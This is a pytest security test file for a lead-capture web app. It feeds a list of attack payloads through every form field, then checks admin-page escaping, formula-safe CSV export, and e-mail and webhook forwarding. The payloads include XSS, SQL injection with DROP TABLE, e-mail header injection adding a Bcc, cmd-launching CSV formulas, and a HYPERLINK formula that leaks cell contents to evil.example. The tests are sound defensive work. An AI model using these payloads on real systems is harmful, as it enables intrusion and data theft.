"""Payloads from the usual attack lists, in every field, end to end.

capture → screening (a real RQ worker) → admin pages (escaped) → CSV export (formula-safe) → forwarding
to a signed webhook and an e-mail inbox (real loopback receivers): never a 500, never a raw tag in HTML,
e-mail headers one line each, the webhook's JSON carrying the text intact. Runs on PostgreSQL too
(TEST_DATABASE_URL), where a NUL character cannot be stored in a text column at all.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from markupsafe import escape
from sqlalchemy import select

from app.db import session_scope
from app.forwarding.destinations import create_destination
from app.models import Delivery, Submission
from screening.spreadsheet import FORMULA_PREFIXES, safe_cell
from tests.conftest import free_port
from tests.helpers import csrf_from
from tests.receivers import HttpReceiver, SmtpReceiver

PAYLOADS = {
    "xss-script": "<script>alert(1)</script>",
    "xss-attribute": '"><img src=x onerror=alert(1)>',
    "xss-svg": "<svg/onload=alert(document.cookie)>",
    "xss-javascript-url": "javascript:alert(1)//",
    "sql-injection": "' OR 1=1 --",
    "sql-stacked": "1'; DROP TABLE submissions; --",
    "header-injection": "x\r\nBcc: evil@x",
    "header-injection-lf": "x\nSubject: owned\n\nbody",
    # RFC 2047 encoded words that decode to line breaks (CVE-2024-6923): a Bcc, and a header/body split.
    "header-injection-encoded-lf": "=?utf-8?q?Chen=0ABcc:_someone@evil.example?=",
    "header-injection-encoded-crlf": "=?us-ascii?q?Hooli=0D=0A=0D=0Aphish?=",
    "csv-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "csv-plus": "+1+cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-fullwidth": "\uff1d1+1",
    "overlong-unicode": "\U0001d54f\u0301\U0001f600\u00df" * 24,  # 96 characters, 4-byte UTF-8, combining marks
    "null-bytes": "Pat\x00rick\x00",
    "rtl-override": "Pat\u202ekcir\u202c",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
}
# Fields of the contact-sales form that take free text; the payload goes into every one of them.
TEXT_FIELDS = (
    "first_name",
    "last_name",
    "company",
    "job_title",
    "message",
    "utm_source",
    "utm_medium",
    "utm_campaign",
    "utm_term",
    "utm_content",
    "page_url",
    "referrer",
)
RAW_TAGS = ("<script", "<img", "<svg", "<%")
# The headers of a lead e-mail, each exactly once.
MAIL_HEADERS = (
    "subject",
    "from",
    "to",
    "reply-to",
    "date",
    "message-id",
    "x-leadsieve-idempotency-key",
    "mime-version",
    "content-type",
)


@pytest.fixture(scope="module")
def smtp_server() -> Iterator[SmtpReceiver]:
    """One SMTP receiver for the module."""
    server = SmtpReceiver(free_port()).start()
    yield server
    server.stop()


@pytest.fixture
def smtp(smtp_server: SmtpReceiver) -> SmtpReceiver:
    smtp_server.reset()
    return smtp_server


@pytest.fixture
def webhook_receiver() -> Iterator[HttpReceiver]:
    receiver = HttpReceiver().start()
    yield receiver
    receiver.stop()


@pytest.fixture
def settings(settings: dict[str, Any], smtp_server: SmtpReceiver) -> dict[str, Any]:
    """Loopback destinations allowed, mail to the receiver, retries without waiting, no rate limit."""
    settings.update(
        ALLOWED_PRIVATE_DESTINATIONS=["127.0.0.1"],
        SMTP_URL=smtp_server.url,
        SMTP_FROM="leads@leadsieve.test",
        DELIVERY_BACKOFF=[0, 0],
        DELIVERY_TIMEOUT_SECONDS=2.0,
        RATELIMIT_ENABLED=False,
    )
    return settings


@pytest.fixture
def destinations(app, webhook_receiver, smtp):
    with app.app_context(), session_scope() as session:
        for kind, target in (("webhook", webhook_receiver.url()), ("email", "sales@example.com")):
            create_destination(session, kind=kind, target=target, actor="test", allowed_private=["127.0.0.1"])
            session.commit()
        session.commit()


def no_raw_markup(html: str, payload: str) -> None:
    """The page shows the payload only escaped: none of its tags or event handlers survive as markup."""
    for tag in RAW_TAGS:  # e.g. "<script>alert(1)" or "<img src=x o": the payload's own markup
        if (start := payload.find(tag)) >= 0:
            snippet = payload[start : start + len(tag) + 10]
            assert snippet not in html, snippet
    if "<" in payload:
        assert payload not in html
    if '">' in payload:  # breaking out of an attribute value
        assert '"><img' not in html


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_in_every_text_field_goes_through_without_harm(
    app, client, admin, db_session, run_worker, destinations, webhook_receiver, smtp, payload
):
    fields = {name: payload for name in TEXT_FIELDS}
    fields.update(email="pat@acme.com", budget="10k_50k", x_unknown=payload)
    in_header = payload.replace("\r", " ").replace("\n", " ")  # HTTP itself cannot carry a line break there
    response = client.post(
        "/f/contact-sales", data=fields, headers={"Referer": in_header, "User-Agent": in_header}, follow_redirects=True
    )
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    no_raw_markup(response.get_data(as_text=True), payload)
    [stored] = db_session.scalars(select(Submission)).all()
    assert "\x00" not in (stored.first_name + stored.company + stored.message + stored.user_agent)
    assert "\u202e" not in stored.first_name  # invisible direction overrides are dropped at capture
    run_worker()

    db_session.expire_all()
    stored = db_session.get(Submission, stored.id)
    assert stored.status == "screened"
    if stored.verdict != "accepted":  # whatever screening thought of it, an admin lets it through
        token = csrf_from(admin.get("/admin/").get_data(as_text=True))
        assert (
            admin.post(
                "/admin/decide", data={"action": "approve", "ids": [stored.id], "csrf_token": token, "back": "/admin/"}
            ).status_code
            == 302
        )
        run_worker()
        db_session.expire_all()
        stored = db_session.get(Submission, stored.id)
    assert stored.lead_id is not None

    # Admin display: every page that shows the submission renders it escaped.
    for url in (
        "/admin/",
        "/admin/rejected",
        "/admin/leads",
        "/admin/submissions",
        f"/admin/submissions/{stored.id}",
        f"/admin/leads/{stored.lead_id}",
        f"/admin/submissions?q={payload[:50]}",
    ):
        page = admin.get(url)
        assert page.status_code == 200, url
        no_raw_markup(page.get_data(as_text=True), payload)
    detail = admin.get(f"/admin/submissions/{stored.id}").get_data(as_text=True)
    assert str(escape(stored.company)) in detail

    # CSV export: the text is there, but no cell can start a formula.
    for export_url in ("/admin/submissions.csv", "/admin/leads.csv"):
        export = admin.get(export_url)
        assert export.status_code == 200
        rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
        assert len(rows) == 1
        for name, cell in rows[0].items():
            assert not cell.lstrip(" ").startswith(FORMULA_PREFIXES), (export_url, name, cell)
    assert rows[0]["company"] == safe_cell(stored.company) and stored.company in rows[0]["company"]

    # Forwarding: delivered once to each; the webhook's JSON carries the stored text exactly.
    db_session.expire_all()
    assert sorted(db_session.scalars(select(Delivery.status))) == ["delivered", "delivered"]
    [hook] = webhook_receiver.effective
    body = hook.json()
    for name in ("first_name", "last_name", "company", "job_title", "message"):
        assert body[name] == getattr(stored, name), name
    assert body["utm"]["source"] == stored.utm_source and body["page_url"] == stored.page_url

    [mail] = smtp.messages
    header_block = mail.raw.split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0]
    for line in header_block.splitlines():
        # Every header line is a header of ours or a folded continuation of one: nothing injected.
        assert line[:1] in (b" ", b"\t") or line.split(b":", 1)[0].lower().decode() in MAIL_HEADERS, line
    # All of them, too: a blank line smuggled into one would have ended the headers early.
    assert sorted(name.lower() for name in mail.message.keys()) == sorted(MAIL_HEADERS)
    for name, value in mail.message.items():
        assert "\r" not in value and "\n" not in value, name
    assert mail.message["Bcc"] is None and mail.rcpt_tos == ["sales@example.com"]
    html_part = mail.message.get_body(("html",))
    if html_part is not None:
        no_raw_markup(html_part.get_content(), payload)


@pytest.mark.parametrize("field", ["email", "phone", "country"])
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_in_a_validated_field_is_a_field_error_or_stored_safely(app, client, admin, db_session, field, payload):
    fields = {"email": "pat@acme.com", "first_name": "Pat", "company": "Acme", "message": "Hello", field: payload}
    as_json = client.post("/f/contact-sales", json=fields)
    assert as_json.status_code in (202, 400), as_json.get_data(as_text=True)[:500]
    if as_json.status_code == 400:
        assert field in as_json.get_json()["fields"]
    as_html = client.post("/f/contact-sales", data=fields)
    assert as_html.status_code in (303, 400)  # 303: to the thank-you page (post, redirect, get)
    no_raw_markup(as_html.get_data(as_text=True), payload)  # the form shown again echoes it escaped
    for row in db_session.scalars(select(Submission)).all():
        assert admin.get(f"/admin/submissions/{row.id}").status_code == 200


def test_nul_characters_never_reach_the_database_as_text(client, db_session):
    """PostgreSQL refuses NUL in text columns: capture strips it from every field (and from the raw copy of
    unknown fields it is kept escaped in JSON), so the visitor gets the thank-you, never a 500."""
    response = client.post(
        "/f/newsletter",
        json={"email": "sam@hooli.com", "first_name": "\x00Sam\x00", "utm_source": "\x00", "\x00key": "va\x00lue"},
        headers={"User-Agent": "agent\x00smith"},
    )
    assert response.status_code == 202, response.get_json()
    stored = db_session.scalars(select(Submission)).one()
    assert (stored.first_name, stored.utm_source) == ("Sam", "")
    assert "\x00" not in stored.user_agent
    nul_email = client.post("/f/newsletter", json={"email": "sam\x00@hooli.com"})
    assert nul_email.status_code in (202, 400)


@pytest.mark.parametrize(
    "url",
    [
        "/f/%00",
        "/f/%00/embed",
        "/f/%00/token",
        "/f/news%00letter",
        "/embed/%00.js",
        "/feedback/%00",
        "/api/feedback/%00",
    ],
)
def test_nul_in_a_public_url_is_refused_not_a_failure(client, url):
    assert client.get(url).status_code in (400, 403, 404, 405)  # 403: a feedback link that is not valid
    assert client.post(url, data={"email": "pat@acme.com"}).status_code in (400, 403, 404, 405)


@pytest.mark.parametrize(
    "query",
    [
        "rejected?category=%00",
        "submissions?q=pat%00rick",
        "submissions.csv?q=%00&form=%00",
        "submissions?stage=%00&verdict=%00&category=%00&form=%00&utm_campaign=%00",
        "leads?stage=%00&outcome=%00&source=%00&sort=%00&owner=%00&sla=%00",
        "leads.csv?stage=%00&outcome=%00&source=%00",
        "?page=%00",
    ],
)
def test_nul_in_an_admin_filter_is_ignored_not_a_failure(admin, query):
    assert admin.get(f"/admin/{query}").status_code == 200
